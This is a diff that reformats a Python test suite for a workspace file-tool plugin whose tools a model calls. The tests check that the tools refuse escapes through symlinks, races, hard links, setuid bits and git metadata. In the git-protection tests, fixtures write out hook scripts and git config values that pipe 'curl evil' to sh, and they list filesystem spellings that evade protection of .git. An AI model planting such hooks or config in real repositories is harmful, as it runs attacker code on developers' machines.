@@ -62,9 +62,13 @@ async def test_paths_outside_the_root_are_refused_without_side_effect(boot: Any,
     root = tmp_path / "ws"
     root.mkdir()
     async with boot(ws(root)) as h:
-        for name, args in [("read", {"path": path}), ("write", {"path": path, "content": "x"}),
-                           ("edit", {"path": path, "old_string": "a", "new_string": "b"}),
-                           ("list", {"path": path}), ("search", {"pattern": "x", "path": path})]:
+        for name, args in [
+            ("read", {"path": path}),
+            ("write", {"path": path, "content": "x"}),
+            ("edit", {"path": path, "old_string": "a", "new_string": "b"}),
+            ("list", {"path": path}),
+            ("search", {"pattern": "x", "path": path}),
+        ]:
             result = await h.call(name, args)
             assert result.code == "TOOL_FAILED", (name, result)
             assert "is outside the workspace" in result.error.message  # type: ignore[union-attr]
@@ -81,11 +85,14 @@ async def test_symlink_escapes_are_refused_without_side_effect(boot: Any, tmp_pa
     (root / "link.txt").symlink_to(secret)
     (root / "dir").symlink_to(outside)
     async with boot(ws(root)) as h:
-        for name, args in [("read", {"path": "link.txt"}), ("read", {"path": "dir/secret.txt"}),
-                           ("write", {"path": "link.txt", "content": "pwned"}),
-                           ("write", {"path": "dir/new.txt", "content": "pwned"}),
-                           ("edit", {"path": "dir/secret.txt", "old_string": "top", "new_string": "no"}),
-                           ("list", {"path": "dir"})]:
+        for name, args in [
+            ("read", {"path": "link.txt"}),
+            ("read", {"path": "dir/secret.txt"}),
+            ("write", {"path": "link.txt", "content": "pwned"}),
+            ("write", {"path": "dir/new.txt", "content": "pwned"}),
+            ("edit", {"path": "dir/secret.txt", "old_string": "top", "new_string": "no"}),
+            ("list", {"path": "dir"}),
+        ]:
             result = await h.call(name, args)
             assert result.code == "TOOL_FAILED", (name, result)
             assert "leads outside the workspace" in result.error.message  # type: ignore[union-attr]
@@ -139,8 +146,9 @@ async def test_edit_fails_clearly_on_zero_or_several_matches(boot: Any, tmp_path
         several = await h.call("edit", {"path": "f.txt", "old_string": "x = 1", "new_string": "x = 2"})
         assert "old_string occurs 2 times in 'f.txt'" in several.text and "replace_all" in several.text
         assert (tmp_path / "f.txt").read_text() == "x = 1\nx = 1\n"
-        every = await h.call("edit", {"path": "f.txt", "old_string": "x = 1", "new_string": "x = 2",
-                                      "replace_all": True})
+        every = await h.call(
+            "edit", {"path": "f.txt", "old_string": "x = 1", "new_string": "x = 2", "replace_all": True}
+        )
         assert every.value["replacements"] == 2
         same = await h.call("edit", {"path": "f.txt", "old_string": "x", "new_string": "x"})
         assert "identical" in same.text
@@ -248,7 +256,8 @@ CATASTROPHIC = r"(a+)+$"  # exponential backtracking on a run of "a"s that ends 
 
 
 async def test_a_catastrophic_regex_is_stopped_at_the_timeout_without_stalling_the_loop(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The search runs out of process: the loop keeps ticking and the worker is killed at the timeout.
 
     One line of ``"a" * 29 + "b"`` keeps ``(a+)+$`` backtracking for tens of seconds (each "a" doubles
@@ -289,7 +298,8 @@ async def test_a_catastrophic_regex_is_stopped_at_the_timeout_without_stalling_t
 
 
 async def test_abort_and_cancellation_kill_a_runaway_search_promptly(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Abort ends the call as ABORTED and cancellation ends the task; neither leaves a worker running."""
     import asyncio
     import contextlib
@@ -354,7 +364,8 @@ async def test_write_refuses_a_fifo_instead_of_blocking_the_loop(boot: Any, tmp_
 
 
 async def test_write_and_edit_refuse_a_hard_link_rather_than_break_it_or_write_through_it(
-        boot: Any, tmp_path: Path) -> None:
+    boot: Any, tmp_path: Path
+) -> None:
     """A file with several names (hard links): writing through would change a file that may lie outside
     the workspace, and replacing it (as write and edit did, silently) left its other names with the old
     content, a divergence nobody was told of. Both are refused, naming the path and why; a file with one
@@ -370,10 +381,11 @@ async def test_write_and_edit_refuse_a_hard_link_rather_than_break_it_or_write_t
     (root / "script.sh").write_text("echo hi\n")
     os.chmod(root / "script.sh", 0o750)
     async with boot(ws(root)) as h:
-        for path, call in [("linked.txt", ("write", {"path": "linked.txt", "content": "pwned\n"})),
-                           ("linked.txt", ("edit", {"path": "linked.txt", "old_string": "original",
-                                                    "new_string": "pwned"})),
-                           ("a.txt", ("edit", {"path": "a.txt", "old_string": "shared", "new_string": "mine"}))]:
+        for path, call in [
+            ("linked.txt", ("write", {"path": "linked.txt", "content": "pwned\n"})),
+            ("linked.txt", ("edit", {"path": "linked.txt", "old_string": "original", "new_string": "pwned"})),
+            ("a.txt", ("edit", {"path": "a.txt", "old_string": "shared", "new_string": "mine"})),
+        ]:
             result = await h.call(*call)
             assert result.code == "TOOL_FAILED", (call, result.text)
             assert f"cannot write {path!r}: it has 2 names (hard links)" in result.text, result.text
@@ -388,7 +400,8 @@ async def test_write_and_edit_refuse_a_hard_link_rather_than_break_it_or_write_t
 
 
 async def test_a_hard_link_made_while_an_edit_runs_is_not_broken(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A second name given to the file after the edit read it: the replace would still break it."""
     from dsh_plugins.workspace import WorkspaceTools
 
@@ -410,7 +423,8 @@ async def test_a_hard_link_made_while_an_edit_runs_is_not_broken(
 
 @pytest.mark.parametrize("change", ["in place, same size", "replaced by another file"])
 async def test_an_edit_does_not_undo_a_change_made_while_it_ran(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, change: str) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, change: str
+) -> None:
     """Another program writes the file between the edit's read and its replace: nothing is replaced."""
     from dsh_plugins.workspace import WorkspaceTools
 
@@ -445,7 +459,8 @@ async def test_an_edit_does_not_undo_a_change_made_while_it_ran(
 
 @pytest.mark.parametrize("change", ["mode", "owner"])
 async def test_an_edit_does_not_undo_a_mode_or_owner_change_made_while_it_ran(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, change: str) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, change: str
+) -> None:
     """Another program makes a script executable (or gives it away) between the edit's read and its
     replace: the replacement, given the mode and owner the edit read, would silently undo that."""
     from dsh_plugins.workspace import WorkspaceTools
@@ -484,7 +499,8 @@ async def test_an_edit_does_not_undo_a_mode_or_owner_change_made_while_it_ran(
 
 
 async def test_an_edit_checks_for_a_change_at_the_last_moment_before_the_rename(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A change made while the replacement is being written is caught too, not only one before it."""
     from dsh_plugins.workspace import WorkspaceTools
 
@@ -507,13 +523,19 @@ async def test_an_edit_checks_for_a_change_at_the_last_moment_before_the_rename(
 def _acl_granting_read_to(uid: int) -> bytes:
     import struct
 
-    entries = [(0x01, 6, 0xFFFFFFFF), (0x02, 4, uid), (0x04, 4, 0xFFFFFFFF), (0x10, 4, 0xFFFFFFFF),
-               (0x20, 0, 0xFFFFFFFF)]  # user::rw- user:uid:r-- group::r-- mask::r-- other::---
+    entries = [
+        (0x01, 6, 0xFFFFFFFF),
+        (0x02, 4, uid),
+        (0x04, 4, 0xFFFFFFFF),
+        (0x10, 4, 0xFFFFFFFF),
+        (0x20, 0, 0xFFFFFFFF),
+    ]  # user::rw- user:uid:r-- group::r-- mask::r-- other::---
     return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in entries)
 
 
 async def test_write_and_edit_keep_the_extended_attributes_and_acl_of_the_file_they_replace(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A replacement without them would silently change who may read the file."""
     target = tmp_path / "shared.txt"
     target.write_text("alpha\n")
@@ -550,7 +572,8 @@ async def test_write_and_edit_keep_the_extended_attributes_and_acl_of_the_file_t
 
 @pytest.mark.parametrize("content", ["", "#!/bin/sh\nid\n"])
 async def test_a_replacement_never_gets_the_file_capabilities_of_the_file_it_replaces(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: str) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: str
+) -> None:
     """File capabilities belong to the old bytes: the kernel drops them on any write, and a copy would
     give a program the model wrote the privileges of the one it replaced (dsh running as root)."""
     import struct
@@ -608,7 +631,8 @@ async def test_a_replacement_does_not_take_the_default_acl_of_its_directory(boot
 
 
 async def test_without_proc_a_replacement_still_keeps_the_acl_or_is_refused(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """/proc may be missing (a chroot, a sandbox): an ACL is then not silently dropped."""
     target = tmp_path / "shared.txt"
     target.write_text("alpha\n")
@@ -624,6 +648,7 @@ async def test_without_proc_a_replacement_still_keeps_the_acl_or_is_refused(
             if isinstance(path, str) and path.startswith("/proc/"):
                 raise FileNotFoundError(2, "No such file or directory")
             return real(path, *args, **kwargs)
+
         return call
 
     monkeypatch.setattr(os, "listxattr", no_proc(real_listxattr))
@@ -649,7 +674,8 @@ async def test_without_proc_a_replacement_still_keeps_the_acl_or_is_refused(
 
 
 async def test_a_replacement_that_cannot_keep_the_owner_keeps_the_group(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Giving a file away takes privilege; setting a group dsh's user is in does not."""
     target = tmp_path / "team.txt"
     target.write_text("alpha\n")
@@ -676,7 +702,8 @@ async def test_a_replacement_that_cannot_keep_the_owner_keeps_the_group(
 
 @pytest.mark.parametrize("group_kept", [True, False])
 async def test_a_replacement_that_cannot_keep_the_owner_drops_the_setuid_bit_it_gave(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, group_kept: bool) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, group_kept: bool
+) -> None:
     """A set-user-ID (set-group-ID) program of another owner (group) rewritten without the privilege
     to keep it is dsh's: with the bit restored it ran the model's content as dsh's user (group) for
     whoever started it. A write in place drops the bit too."""
@@ -706,7 +733,8 @@ async def test_a_replacement_that_cannot_keep_the_owner_drops_the_setuid_bit_it_
 
 
 async def test_a_replacement_in_a_setgid_directory_keeps_the_group_of_the_file_it_replaces(
-        boot: Any, tmp_path: Path) -> None:
+    boot: Any, tmp_path: Path
+) -> None:
     """A new file in a setgid directory takes the directory's group, not dsh's: compared with dsh's ids,
     a file of dsh's own user and group was taken to need no chown, and its replacement went to the
     directory's group (a 0640 file became readable by that group's members)."""
@@ -723,8 +751,9 @@ async def test_a_replacement_in_a_setgid_directory_keeps_the_group_of_the_file_i
         os.chmod(shared / name, 0o640)
     async with boot(ws(tmp_path)) as h:
         assert (await h.call("write", {"path": "shared/a.txt", "content": "beta\n"})).error is None
-        assert (await h.call("edit", {"path": "shared/b.txt", "old_string": "alpha", "new_string": "beta"})
-                ).error is None
+        assert (
+            await h.call("edit", {"path": "shared/b.txt", "old_string": "alpha", "new_string": "beta"})
+        ).error is None
     for name in ["a.txt", "b.txt"]:
         info = os.stat(shared / name)
         assert (info.st_uid, info.st_gid, stat.S_IMODE(info.st_mode)) == (os.getuid(), os.getgid(), 0o640), name
@@ -757,8 +786,9 @@ async def main():
 asyncio.run(main())
 """
     env = {**os.environ, "PYTHONPATH": os.pathsep.join(p for p in sys.path if p)}
-    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=env, timeout=60,
-                          check=True)
+    done = subprocess.run(
+        [sys.executable, "-c", script], capture_output=True, text=True, env=env, timeout=60, check=True
+    )
     result = json.loads(done.stdout.strip().splitlines()[-1])
     assert result["code"] == "TOOL_FAILED"
     assert "cannot write 'f.txt'" in result["text"] and "File too large" in result["text"]
@@ -767,7 +797,8 @@ asyncio.run(main())
 
 
 async def test_a_directory_swapped_for_a_symlink_after_the_check_is_not_followed(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The race between resolve() and the open: a checked directory becomes a symlink leading out."""
     from dsh_plugins.workspace import Workspace
 
@@ -791,11 +822,15 @@ async def test_a_directory_swapped_for_a_symlink_after_the_check_is_not_followed
 
     monkeypatch.setattr(Workspace, "resolve", resolve_then_swap)
     async with boot(ws(root)) as h:
-        for name, args in [("read", {"path": "sub/file.txt"}), ("write", {"path": "sub/file.txt", "content": "x"}),
-                           ("write", {"path": "sub/new.txt", "content": "x"}),
-                           ("edit", {"path": "sub/file.txt", "old_string": "secret", "new_string": "pwned"}),
-                           ("list", {"path": "sub"}), ("search", {"pattern": "secret", "path": "sub"}),
-                           ("search", {"pattern": "secret", "path": "sub/file.txt"})]:
+        for name, args in [
+            ("read", {"path": "sub/file.txt"}),
+            ("write", {"path": "sub/file.txt", "content": "x"}),
+            ("write", {"path": "sub/new.txt", "content": "x"}),
+            ("edit", {"path": "sub/file.txt", "old_string": "secret", "new_string": "pwned"}),
+            ("list", {"path": "sub"}),
+            ("search", {"pattern": "secret", "path": "sub"}),
+            ("search", {"pattern": "secret", "path": "sub/file.txt"}),
+        ]:
             result = await h.call(name, args)
             restore()
             assert result.code == "TOOL_FAILED", (name, result)
@@ -807,7 +842,8 @@ async def test_a_directory_swapped_for_a_symlink_after_the_check_is_not_followed
 
 
 def test_the_search_worker_does_not_follow_a_file_swapped_for_a_symlink(
-        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The race between the worker's check of a file and its open: a checked file becomes a symlink leading out."""
     from dsh_plugins import _search_worker
     from dsh_plugins.workspace import WorkspaceTools
@@ -888,8 +924,11 @@ async def test_a_symlink_loop_on_the_way_is_named_not_taken_for_a_race(boot: Any
     """resolve() leaves a looping symlink in place; the walk must say so, not that the path changed."""
     (tmp_path / "loop").symlink_to("loop")
     async with boot(ws(tmp_path)) as h:
-        for name, args in [("read", {"path": "loop/x"}), ("write", {"path": "loop/x", "content": "x"}),
-                           ("list", {"path": "loop"})]:
+        for name, args in [
+            ("read", {"path": "loop/x"}),
+            ("write", {"path": "loop/x", "content": "x"}),
+            ("list", {"path": "loop"}),
+        ]:
             result = await h.call(name, args)
             assert result.code == "TOOL_FAILED", (name, result)
             assert "'loop' is a symlink loop" in result.text and "changed" not in result.text, (name, result.text)
@@ -915,8 +954,15 @@ def test_a_directory_that_can_be_crossed_but_not_listed_still_works(tmp_path: Pa
         (root / "ro").mkdir()
         (root / "ro" / "w.txt").write_text("w\n")
         if os.geteuid() == 0:
-            for path in [root, root / "drop", root / "drop" / "in.txt", root / "drop" / "sub",
-                         root / "drop" / "sub" / "f.txt", root / "ro", root / "ro" / "w.txt"]:
+            for path in [
+                root,
+                root / "drop",
+                root / "drop" / "in.txt",
+                root / "drop" / "sub",
+                root / "drop" / "sub" / "f.txt",
+                root / "ro",
+                root / "ro" / "w.txt",
+            ]:
                 os.chown(path, 65534, 65534)
         os.chmod(root, 0o755)
         os.chmod(root / "drop", 0o333)
@@ -948,15 +994,25 @@ asyncio.run(main())
         drop = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []
         if drop and shutil.which("setpriv") is None:
             pytest.skip("dropping root privileges needs setpriv")
-        done = subprocess.run([*drop, sys.executable, "-c", script], capture_output=True, text=True, env=env,
-                              timeout=60, check=True, cwd="/")
+        done = subprocess.run(
+            [*drop, sys.executable, "-c", script],
+            capture_output=True,
+            text=True,
+            env=env,
+            timeout=60,
+            check=True,
+            cwd="/",
+        )
         results = json.loads(done.stdout.strip().splitlines()[-1])
         assert [code for code, _ in results[:5]] == [None] * 5, results
         assert results[0][1] == "     1\thi" and results[3][1] == "f.txt" and results[4][1] == "     1\tf"
         assert results[5] == ["TOOL_FAILED", "Error: cannot list 'drop': Permission denied"]
-        assert results[6] == ["TOOL_FAILED", "Error: cannot write 'ro/w.txt': its directory 'ro' does not take new "
-                              "files (Permission denied); write and edit replace a file through a new one beside "
-                              "it, so they need that directory writable"]
+        assert results[6] == [
+            "TOOL_FAILED",
+            "Error: cannot write 'ro/w.txt': its directory 'ro' does not take new "
+            "files (Permission denied); write and edit replace a file through a new one beside "
+            "it, so they need that directory writable",
+        ]
         assert "'link.txt': its directory 'ro' does not take new files" in results[7][1], results[7]
         assert f"its directory {str(root / 'ro')!r} does not take new files" in results[8][1], results[8]
         os.chmod(root / "drop", 0o755)
@@ -969,7 +1025,8 @@ asyncio.run(main())
 
 
 def test_the_search_worker_does_not_follow_a_directory_swapped_for_a_symlink(
-        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The race inside the walk: a directory already listed becomes a symlink leading out before its files
     are opened. The worker reads each file relative to the directory it opened, so it never crosses it."""
     from dsh_plugins import _search_worker
@@ -989,6 +1046,7 @@ def test_the_search_worker_does_not_follow_a_directory_swapped_for_a_symlink(
                 os.symlink(outside, root / "sub")
                 swapped.append(True)
             return call(path, *args, **kwargs)
+
         return first_look_at_the_file
 
     request = WorkspaceTools({"root": str(root)})._search_request("needle", ".")
@@ -1043,17 +1101,20 @@ async def test_an_edit_matches_lines_of_a_crlf_file(boot: Any, tmp_path: Path) -
 
 
 async def test_lines_an_edit_adds_to_a_crlf_file_end_in_crlf_however_old_string_matched(
-        boot: Any, tmp_path: Path) -> None:
+    boot: Any, tmp_path: Path
+) -> None:
     """A one-line old_string (or one starting at a line's end) matches without any CR to translate: the
     lines its new_string adds end as the file's do, not in LF alone beside CRLF ones."""
     async with boot(ws(tmp_path)) as h:
         for old, new, replace_all, expected in [
-                ("pass", "pass\n    return 1", False, b"def f():\r\n    pass\r\n    return 1\r\n"),
-                ("\n    pass", "\n    x = 1\n    pass", False, b"def f():\r\n    x = 1\r\n    pass\r\n"),
-                ("\n", "\n\n", True, b"def f():\r\n\r\n    pass\r\n\r\n")]:
+            ("pass", "pass\n    return 1", False, b"def f():\r\n    pass\r\n    return 1\r\n"),
+            ("\n    pass", "\n    x = 1\n    pass", False, b"def f():\r\n    x = 1\r\n    pass\r\n"),
+            ("\n", "\n\n", True, b"def f():\r\n\r\n    pass\r\n\r\n"),
+        ]:
             (tmp_path / "w.py").write_bytes(b"def f():\r\n    pass\r\n")
-            edited = await h.call("edit", {"path": "w.py", "old_string": old, "new_string": new,
-                                           "replace_all": replace_all})
+            edited = await h.call(
+                "edit", {"path": "w.py", "old_string": old, "new_string": new, "replace_all": replace_all}
+            )
             assert edited.error is None, edited.text
             assert (tmp_path / "w.py").read_bytes() == expected, old
         assert edited.value["replacements"] == 2
@@ -1077,12 +1138,18 @@ async def test_a_path_with_a_lone_surrogate_is_refused_by_name(boot: Any, tmp_pa
     """No file has such a name: every tool says so, not a codec error about the absolute path."""
     (tmp_path / os.fsdecode(b"caf\xff.txt")).write_text("latin-1 name\n")  # a name that is not UTF-8
     async with boot(ws(tmp_path)) as h:
-        for name, args in [("read", {}), ("write", {"content": "x"}), ("list", {}), ("search", {"pattern": "x"}),
-                           ("edit", {"old_string": "a", "new_string": "b"})]:
+        for name, args in [
+            ("read", {}),
+            ("write", {"content": "x"}),
+            ("list", {}),
+            ("search", {"pattern": "x"}),
+            ("edit", {"old_string": "a", "new_string": "b"}),
+        ]:
             result = await h.call(name, {"path": "a\ud83db", **args})
             assert result.code == "TOOL_FAILED", name
-            assert "path 'a\\ud83db' cannot be a file name: it has a lone surrogate (U+D83D at character 1)" \
-                in result.text, (name, result.text)
+            assert (
+                "path 'a\\ud83db' cannot be a file name: it has a lone surrogate (U+D83D at character 1)" in result.text
+            ), (name, result.text)
         escaped = await h.call("read", {"path": "caf\udcff.txt"})  # surrogateescape: the byte 0xff
         assert escaped.error is None and escaped.value["content"] == "     1\tlatin-1 name"
     assert sorted(os.listdir(tmp_path)) == ["caf\udcff.txt"]
@@ -1119,7 +1186,8 @@ async def test_a_new_file_gets_the_mode_the_umask_leaves(boot: Any, tmp_path: Pa
 
 
 async def test_list_skips_an_entry_removed_while_it_was_listed(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A busy directory (a build writing temporary files): an entry gone before its size is read is left
     out, not a failed list."""
     (tmp_path / "keep.txt").write_text("k")
@@ -1174,8 +1242,10 @@ async def test_list_holds_only_the_entries_it_shows_of_a_huge_directory(boot: An
             _, peak = tracemalloc.get_traced_memory()
         finally:
             tracemalloc.stop()
-    assert listing.text == ("entry-00000-with-a-name-of-some-length@\nentry-00001-with-a-name-of-some-length@\n"
-                            "entry-00002-with-a-name-of-some-length@\n[listing truncated]")
+    assert listing.text == (
+        "entry-00000-with-a-name-of-some-length@\nentry-00001-with-a-name-of-some-length@\n"
+        "entry-00002-with-a-name-of-some-length@\n[listing truncated]"
+    )
     assert peak < 1_000_000, peak  # held whole: ~3.5 MB
 
 
@@ -1208,7 +1278,8 @@ def _fake_worker(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, source: str) -
 
 
 async def test_search_workers_are_killed_without_process_kill_which_could_reap_them_first(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
     """In 3.11 ``Process.kill()`` polls (``waitpid``) first: a worker that had just exited was reaped there,
     and asyncio's child watcher then logged "Unknown child process" and reported exit status 255."""
     import asyncio
@@ -1230,19 +1301,24 @@ async def test_search_workers_are_killed_without_process_kill_which_could_reap_t
 
 
 async def test_a_search_worker_that_dies_is_reported_with_its_status_and_last_words(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """'ended unexpectedly' alone names no culprit: the exit status and the last line on stderr do."""
-    _fake_worker(monkeypatch, tmp_path, "import sys\nsys.stderr.write('noise\\nMemoryError: out of luck\\n')\n"
-                                        "sys.exit(3)\n")
+    _fake_worker(
+        monkeypatch, tmp_path, "import sys\nsys.stderr.write('noise\\nMemoryError: out of luck\\n')\nsys.exit(3)\n"
+    )
     async with boot(ws(tmp_path)) as h:
         result = await h.call("search", {"pattern": "x"})
     assert result.code == "TOOL_FAILED"
-    assert result.error.message == ("the search worker ended unexpectedly (exit status 3): "  # type: ignore[union-attr]
-                                    "MemoryError: out of luck")
+    assert result.error.message == (
+        "the search worker ended unexpectedly (exit status 3): "  # type: ignore[union-attr]
+        "MemoryError: out of luck"
+    )
 
 
 async def test_a_cancellation_while_the_worker_is_reaped_is_not_swallowed(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The call waits for its worker to end even when cancelled meanwhile, then ends cancelled: it must
     not return a result as if the cancellation had not come."""
     import asyncio
@@ -1251,9 +1327,13 @@ async def test_a_cancellation_while_the_worker_is_reaped_is_not_swallowed(
     from dsh_plugins import workspace
 
     answered = tmp_path.parent / f"{tmp_path.name}-answered"
-    _fake_worker(monkeypatch, tmp_path, "import json, sys, time\n"
-                                        "print(json.dumps({'done': True, 'truncated': False, 'note': None}), "
-                                        f"flush=True)\nopen({str(answered)!r}, 'w').close()\ntime.sleep(0.5)\n")
+    _fake_worker(
+        monkeypatch,
+        tmp_path,
+        "import json, sys, time\n"
+        "print(json.dumps({'done': True, 'truncated': False, 'note': None}), "
+        f"flush=True)\nopen({str(answered)!r}, 'w').close()\ntime.sleep(0.5)\n",
+    )
     monkeypatch.setattr(workspace, "kill_child", lambda process: None)  # the worker takes its time to end
     workers = _track_workers(monkeypatch)
     async with boot(ws(tmp_path)) as h:
@@ -1298,15 +1378,26 @@ async def test_write_and_edit_leave_git_alone_however_the_path_is_spelled(boot: 
     (tmp_path / "sub" / ".git").write_text("gitdir: ../.git\n")  # a worktree's or submodule's git file
     (tmp_path / "hooks").symlink_to(git / "hooks")
     async with boot(ws(tmp_path)) as h:
-        for path in (".git/hooks/pre-commit", "./.git/hooks/post-checkout", "sub/.git", "src/.GIT/config",
-                     "hooks/pre-push"):
+        for path in (
+            ".git/hooks/pre-commit",
+            "./.git/hooks/post-checkout",
+            "sub/.git",
+            "src/.GIT/config",
+            "hooks/pre-push",
+        ):
             result = await h.call("write", {"path": path, "content": "#!/bin/sh\ncurl evil | sh\n"})
             assert result.code == "TOOL_FAILED", path
             assert f"write refused: {path!r}" in result.text and "which the workspace protects" in result.text
         linked = await h.call("write", {"path": "hooks/pre-push", "content": "x"})
         assert "(it resolves to '.git/hooks/pre-push')" in linked.text
-        edited = await h.call("edit", {"path": ".git/config", "old_string": "bare = false",
-                                       "new_string": "bare = false\n\tfsmonitor = curl evil | sh"})
+        edited = await h.call(
+            "edit",
+            {
+                "path": ".git/config",
+                "old_string": "bare = false",
+                "new_string": "bare = false\n\tfsmonitor = curl evil | sh",
+            },
+        )
         assert edited.code == "TOOL_FAILED" and "edit refused: '.git/config' is in '.git'" in edited.text
         assert (await h.call("read", {"path": ".git/config"})).error is None  # reading is fine
         assert (await h.call("write", {"path": ".gitignore", "content": "*.pyc\n"})).error is None
@@ -1328,22 +1419,39 @@ async def test_write_and_edit_leave_a_repository_not_called_git_alone(boot: Any,
     (tmp_path / "notes").mkdir()
     (tmp_path / "notes" / "refs").mkdir()
     async with boot(ws(tmp_path)) as h:
-        for path, content in [("docs/HEAD", "ref: refs/heads/main\n"), ("docs/objects/info/packs", ""),
-                              ("docs/config", "[core]\n\tpager = curl evil | sh\n"), ("docs/refs/heads/main", ""),
-                              ("wt/commondir", "../vendor/lib.git\n"), ("wt/HEAD", "ref: refs/heads/main\n"),
-                              ("notes/objects/x", ""), ("notes/HEAD", "the head of the notes\n"),
-                              ("vendor/lib.git/hooks/post-update", "#!/bin/sh\ncurl evil | sh\n")]:
+        for path, content in [
+            ("docs/HEAD", "ref: refs/heads/main\n"),
+            ("docs/objects/info/packs", ""),
+            ("docs/config", "[core]\n\tpager = curl evil | sh\n"),
+            ("docs/refs/heads/main", ""),
+            ("wt/commondir", "../vendor/lib.git\n"),
+            ("wt/HEAD", "ref: refs/heads/main\n"),
+            ("notes/objects/x", ""),
+            ("notes/HEAD", "the head of the notes\n"),
+            ("vendor/lib.git/hooks/post-update", "#!/bin/sh\ncurl evil | sh\n"),
+        ]:
             result = await h.call("write", {"path": path, "content": content})
-            repository = {"docs/refs/heads/main": "docs", "wt/HEAD": "wt", "notes/HEAD": "notes",
-                          "vendor/lib.git/hooks/post-update": "vendor/lib.git"}.get(path)
+            repository = {
+                "docs/refs/heads/main": "docs",
+                "wt/HEAD": "wt",
+                "notes/HEAD": "notes",
+                "vendor/lib.git/hooks/post-update": "vendor/lib.git",
+            }.get(path)
             if repository is not None:
                 assert result.code == "TOOL_FAILED", path
-                assert (f"write refused: {path!r} is in {repository!r}, which git takes for a repository"
-                        in result.text), result.text
+                assert (
+                    f"write refused: {path!r} is in {repository!r}, which git takes for a repository" in result.text
+                ), result.text
             else:
                 assert result.error is None, (path, result.text)
-        edited = await h.call("edit", {"path": "vendor/lib.git/config", "old_string": "bare = true",
-                                       "new_string": "bare = true\n\tfsmonitor = curl evil | sh"})
+        edited = await h.call(
+            "edit",
+            {
+                "path": "vendor/lib.git/config",
+                "old_string": "bare = true",
+                "new_string": "bare = true\n\tfsmonitor = curl evil | sh",
+            },
+        )
         assert edited.code == "TOOL_FAILED" and "which git takes for a repository" in edited.text
         assert (await h.call("write", {"path": "src/HEAD", "content": "a file of that name alone\n"})).error is None
     assert not (tmp_path / "docs" / "refs").exists() and not (tmp_path / "wt" / "HEAD").exists()
@@ -1353,11 +1461,24 @@ async def test_write_and_edit_leave_a_repository_not_called_git_alone(boot: Any,
         assert (await h.call("write", {"path": "vendor/lib.git/hooks/post-update", "content": "true\n"})).error is None
 
 
-@pytest.mark.parametrize("path", [
-    ".git\u200c/hooks/pre-commit", "\ufeff.git/hooks/pre-commit", ".g\u206ait/config", ".git\u202e/config",
-    ".GIT./config", ".git /config", ".git . ./hooks/pre-push", "git~1/config", "GIT~1./hooks/pre-commit",
-    ".git ::$INDEX_ALLOCATION/x", ".git::$INDEX_ALLOCATION/hooks/pre-commit", "sub/.git:stream",
-    ".git\\hooks\\pre-commit"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".git\u200c/hooks/pre-commit",
+        "\ufeff.git/hooks/pre-commit",
+        ".g\u206ait/config",
+        ".git\u202e/config",
+        ".GIT./config",
+        ".git /config",
+        ".git . ./hooks/pre-push",
+        "git~1/config",
+        "GIT~1./hooks/pre-commit",
+        ".git ::$INDEX_ALLOCATION/x",
+        ".git::$INDEX_ALLOCATION/hooks/pre-commit",
+        "sub/.git:stream",
+        ".git\\hooks\\pre-commit",
+    ],
+)
 async def test_names_file_systems_take_for_git_are_protected_as_git(boot: Any, tmp_path: Path, path: str) -> None:
     """git refuses these spellings of .git (core.protectHFS, core.protectNTFS: is_hfs_dotgit, is_ntfs_dotgit)
     because a file system reaches .git by them: HFS+ ignores some code points, NTFS trailing dots and
